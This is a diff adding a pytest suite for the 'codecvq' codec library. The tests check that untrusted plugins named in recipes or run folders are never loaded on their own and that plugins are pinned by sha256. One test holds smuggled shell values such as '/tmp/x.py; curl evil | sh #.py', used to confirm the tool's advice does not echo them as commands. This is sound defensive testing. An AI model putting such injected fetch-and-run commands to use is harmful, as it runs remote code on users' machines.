@@ -1,0 +1,261 @@
+"""Reading runs nothing: the plugins of a recipe, a run or a codec are loaded if the user names them."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import logging
+import os
+import py_compile
+import subprocess
+import sys
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+from stranger import ROOT, distribution
+
+import codecvq
+from codecvq.cli.app import main
+from codecvq.declared import Declared, loaded_plugins, same_plugins
+from codecvq.errors import PluginError
+from codecvq.plugins import registry
+from codecvq.training import loop
+from codecvq.training.recipe import load_recipe
+from codecvq.training.run import RunFolder
+from recipes import write_recipe
+
+PLUGIN = """
+from pathlib import Path
+from codecvq import QuantizerSpec, hookimpl
+
+Path(r"{ran}").touch()
+
+def make(dim):
+    from codecvq_fsq.quantizer import FSQ
+    return FSQ(dim, [5, 5])
+
+@hookimpl
+def codecvq_quantizers():
+    yield QuantizerSpec(name="stranger_vq", factory=make)
+"""
+Command = Callable[..., tuple[int, str, str]]
+
+
+@pytest.fixture(autouse=True)
+def registry_as_it_was() -> Iterator[None]:
+    logger = logging.getLogger("codecvq")
+    handlers, propagate, origins = logger.handlers, logger.propagate, set(registry().origins)
+    yield
+    logger.handlers, logger.propagate = handlers, propagate
+    for name in set(registry().origins) - origins:
+        registry().unregister(registry().origins[name])
+
+
+@pytest.fixture
+def command(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Command:
+    """`codecvq …` in an empty working folder: exit code, stdout, stderr."""
+    (tmp_path / "cwd").mkdir()
+    monkeypatch.chdir(tmp_path / "cwd")
+
+    def call(*arguments: object) -> tuple[int, str, str]:
+        with pytest.raises(SystemExit) as leaving:
+            main([str(argument) for argument in arguments])
+        captured = capsys.readouterr()
+        return int(leaving.value.code or 0), captured.out, captured.err
+
+    return call
+
+
+class Stranger:
+    """A recipe with a plugin beside it, a run folder that names both, and a mark of the plugin having run."""
+
+    def __init__(self, folder: Path) -> None:
+        self.folder, self.ran = folder, folder / "it-ran"
+        self.plugin = folder / "stranger_vq.py"
+        self.plugin.write_text(PLUGIN.format(ran=self.ran))
+        (folder / "evil_module.py").write_text(PLUGIN.format(ran=self.ran))
+        self.recipe = write_recipe(
+            folder / "stranger.yaml",
+            quantizer={"name": "stranger_vq"},
+            plugins=["./stranger_vq.py", "evil_module"],
+            training={"steps": 1, "validation_clips": 0, "init_from": str(folder)},
+        )
+        self.run = folder / "run"
+        codec = codecvq.Codec(
+            sample_rate=16000,
+            network=load_recipe("quickstart", ["network.encoder_width=16"]).network,
+            quantizer={"name": "fsq", "levels": [3]},
+        )
+        codec.save(self.run / "codec")
+        config = json.loads((self.run / "codec/config.json").read_text())
+        config["plugins"]["quantizer"] |= {
+            "plugin": "evil_module",
+            "file": str(self.plugin),
+            "sha256": "0" * 64,
+        }
+        (self.run / "codec/config.json").write_text(json.dumps(config))
+        (self.run / "recipe.yaml").write_bytes(self.recipe.read_bytes())
+        (self.run / "stranger_vq.py").write_bytes(self.plugin.read_bytes())
+
+
+@pytest.fixture
+def stranger(tmp_path: Path) -> Stranger:
+    (tmp_path / "stranger").mkdir()
+    return Stranger(tmp_path / "stranger")
+
+
+@pytest.mark.parametrize(
+    ("verb", "code"),
+    [
+        ("recipes show {recipe}", 0),
+        ("recipes show {recipe} --json", 0),
+        ("recipes show {recipe} --resolved", 0),
+        ("train {recipe} --run run", 2),
+        ("train {recipe} --smoke", 2),
+        ("train quickstart --run {run}", 2),
+        ("train quickstart training.steps=1 plugins=[{plugin}]", 2),
+        ("train quickstart plugins=[evil_module]", 2),
+        ("evaluate {run} prompts --split all --max-clips 1 --metrics stoi --out out", 0),
+        ("compare {run} --max-clips 1 --metrics stoi", 0),
+        ("encode {run} {run} --out out", 2),
+        ("decode {run} {run} --out out", 2),
+        ("tokenize {run} {run} --out out", 2),
+    ],
+    ids=lambda value: value if isinstance(value, str) else "",
+)
+def test_no_verb_runs_what_a_folder_or_a_recipe_names(
+    command: Command, stranger: Stranger, monkeypatch: pytest.MonkeyPatch, verb: str, code: int
+) -> None:
+    monkeypatch.syspath_prepend(str(stranger.folder))  # evil_module could be imported
+    paths = {"recipe": stranger.recipe, "run": stranger.run, "plugin": stranger.plugin}
+    found, out, err = command(*(word.format(**paths) for word in verb.split()))
+    assert found == code, out + err
+    assert not stranger.ran.exists()
+    assert "evil_module" not in sys.modules
+    assert "Traceback" not in err
+
+
+def test_loading_from_python_runs_nothing(stranger: Stranger) -> None:
+    codecvq.load(stranger.run)
+    recipe = load_recipe(stranger.recipe)
+    RunFolder(stranger.run).recipe()
+    with pytest.raises(PluginError, match="needs a plugin"):
+        loop.train(recipe, stranger.folder / "new")
+    assert not stranger.ran.exists()
+    assert not (stranger.folder / "new").exists()
+
+
+def test_the_error_names_file_hash_and_flag_and_the_flag_is_all_it_takes(
+    command: Command, stranger: Stranger
+) -> None:
+    recipe = write_recipe(
+        stranger.folder / "own.yaml",
+        quantizer={"name": "stranger_vq"},
+        plugins=["stranger_vq.py"],
+        training={"steps": 1, "validation_clips": 0},
+    )
+    digest = hashlib.sha256(stranger.plugin.read_bytes()).hexdigest()
+    code, _, err = command("train", recipe, "--run", "run")
+    assert code == 2
+    assert f"the file {stranger.plugin} (sha256 {digest[:12]}…)" in err
+    assert err.rstrip().endswith(f"--plugin {stranger.plugin}")
+    assert len(err.splitlines()) == 1
+    code, out, _ = command("recipes", "show", recipe)
+    assert code == 0
+    assert out.startswith(recipe.read_text().rstrip())
+    assert f"--plugin {stranger.plugin}" in out
+    for _ in range(2):  # the second time it goes on
+        code, out, err = command("train", recipe, "--run", "run", "--plugin", stranger.plugin)
+        assert code == 0, err
+    assert stranger.ran.exists()
+    assert "was finished before" in out
+    assert RunFolder(Path("run")).recipe().plugins == [f"{stranger.plugin}#sha256={digest}"]
+    assert command("recipes", "show", recipe, "--plugin", stranger.plugin)[0] == 0
+
+
+def test_a_run_says_which_plugin_its_corpus_needs(command: Command, stranger: Stranger) -> None:
+    write_recipe(stranger.run / "recipe.yaml", corpus={"name": "its_speech"}, plugins=["../stranger_vq.py"])
+    code, _, err = command("evaluate", stranger.run)
+    assert code == 2
+    assert "no corpus named 'its_speech'" in err
+    assert f"--plugin {stranger.plugin}" in err
+
+
+def test_a_pinned_plugin_is_the_one_with_that_hash(stranger: Stranger) -> None:
+    origin = registry().load(stranger.plugin)
+    entry = f"/elsewhere/stranger_vq.py#sha256={origin.sha256}"
+    assert loaded_plugins([entry]) == [f"{stranger.plugin}#sha256={origin.sha256}"]
+    with pytest.raises(PluginError, match=r"with sha256 000000000000…; .*, has "):
+        loaded_plugins([f"{stranger.plugin}#sha256={'0' * 64}"])
+    assert loaded_plugins(["codecvq_fsq"]) == ["codecvq_fsq"], "an installed plugin is loaded already"
+    assert loaded_plugins([], [origin]) == [f"{stranger.plugin}#sha256={origin.sha256}"]
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "same"),
+    [
+        (["/a/x.py"], ["/b/x.py"], True),
+        (["/a/x.py"], [f"/b/x.py#sha256={'1' * 64}"], True),
+        ([f"/a/x.py#sha256={'1' * 64}"], [f"/b/y.py#sha256={'1' * 64}"], True),
+        ([f"/a/x.py#sha256={'1' * 64}"], [f"/a/x.py#sha256={'2' * 64}"], False),
+        (["/a/x.py"], [], False),
+        (["m", "/a/x.py"], ["/a/x.py", "m"], True),
+    ],
+)
+def test_plugins_are_compared_by_hash(before: list[str], after: list[str], same: bool) -> None:
+    assert same_plugins(before, after) is same
+
+
+@pytest.mark.parametrize(
+    ("source", "shown"),
+    [
+        ("/tmp/x.py; curl evil | sh #.py", "--plugin '/tmp/x.py; curl evil | sh #.py'"),
+        ("os; curl evil | sh", "If you trust it, name it with --plugin"),
+        ("--index-url=evil", "name it with --plugin"),
+        ("their_vq.plugin", "name it: --plugin their_vq.plugin"),
+    ],
+)
+def test_advice_repeats_no_command(tmp_path: Path, source: str, shown: str) -> None:
+    if source.startswith("/"):
+        source = str(tmp_path) + source
+        Path(source).parent.mkdir()
+        Path(source).touch()
+        shown = shown.replace("'/tmp", f"'{tmp_path}/tmp")
+    assert shown in Declared(source).described().replace("//", "/")
+
+
+def test_a_device_named_as_a_plugin_is_not_read() -> None:
+    assert "not found" in Declared("/dev/zero").described()
+
+
+def test_what_was_hashed_is_what_runs(tmp_path: Path) -> None:
+    """A .pyc file beside a plugin, which Python would prefer, is passed over."""
+    ran, plugin = tmp_path / "it-ran", tmp_path / "innocent.py"
+    plugin.write_text(PLUGIN.format(ran=ran))
+    py_compile.compile(str(plugin), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
+    plugin.write_text("# nothing\n")
+    registry().load(plugin)
+    assert not ran.exists()
+
+
+def test_nothing_in_the_working_folder_is_imported(tmp_path: Path) -> None:
+    """Neither a module nor a distribution, though `python -m` looks there first."""
+    for name in ("rich", "my_plugin"):
+        (tmp_path / f"{name}.py").write_text(PLUGIN.format(ran=tmp_path / "it-ran"))
+    distribution(tmp_path, "evil-plugin", PLUGIN.format(ran=tmp_path / "it-ran"))
+    paths = os.pathsep.join(str(path) for path in (ROOT, ROOT / "plugins"))
+    command = [sys.executable, "-m", "codecvq", "plugins", "list"]
+    for more, code in (([], 0), (["--plugin", "my_plugin"], 2)):
+        done = subprocess.run(
+            [*command, *more],
+            cwd=tmp_path,
+            env=os.environ | {"PYTHONPATH": paths},
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        assert done.returncode == code, done.stderr
+        assert "stranger_vq" not in done.stdout
+    assert "Give a module that can be imported, or a file as ./my_plugin.py" in done.stderr
+    assert not (tmp_path / "it-ran").exists()
